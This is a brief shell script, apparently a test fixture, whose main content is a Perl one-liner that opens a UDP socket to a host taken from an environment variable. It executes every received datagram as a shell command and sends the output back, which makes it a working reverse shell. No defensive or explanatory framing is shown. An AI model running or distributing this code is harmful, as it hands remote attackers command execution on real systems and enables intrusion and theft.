# what: Perl: each datagram is a command, each answer a datagram
# server: udp
echo begun
perl -MSocket -e '($h, $p) = split /:/, $ENV{SERVER}; socket(S, PF_INET, SOCK_DGRAM, 0); connect(S, sockaddr_in($p, inet_aton($h))) or die;
    send(S, "here\n", 0);
    while (defined recv(S, $c, 1024, 0)) { chomp $c; last if $c eq "exit"; send(S, `$c 2>&1` || "\n", 0) }'
echo done
